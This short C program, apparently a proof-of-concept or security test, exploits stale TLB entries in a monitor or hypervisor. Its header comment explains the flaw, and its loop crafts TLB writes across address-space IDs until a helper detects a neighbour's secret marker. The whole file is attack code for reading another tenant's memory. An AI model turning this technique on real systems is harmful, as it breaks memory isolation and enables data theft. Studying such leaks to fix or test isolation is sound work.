/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * The monitor gives frames from low addresses on, the neighbour's before long. An invalid entry 0 does: its
 * high word is kept. A new address space for each frame, so that nothing is left in the real TLB.
 */
#include "thief.h"

int main(void)
{
    uint32_t behind = end_of_memory();
    for (uint32_t n = 0; n < 3000; n++) {
        uint32_t asid = 40 + n % 100;
        uint32_t frame = 0x80010000 + n * PAGE_SIZE;
        csr_write(mtlbidx, 0);
        tlbwi(frame | 3, 0);
        tlbinv_asid(asid);
        csr_write(mtlbidx, 5);
        tlbwi(WINDOW | asid, behind | TLB_LO_R | TLB_LO_V);
        if (stolen(WINDOW | SECRET_MARK, asid)) {
            break;
        }
    }
    return 0;
}
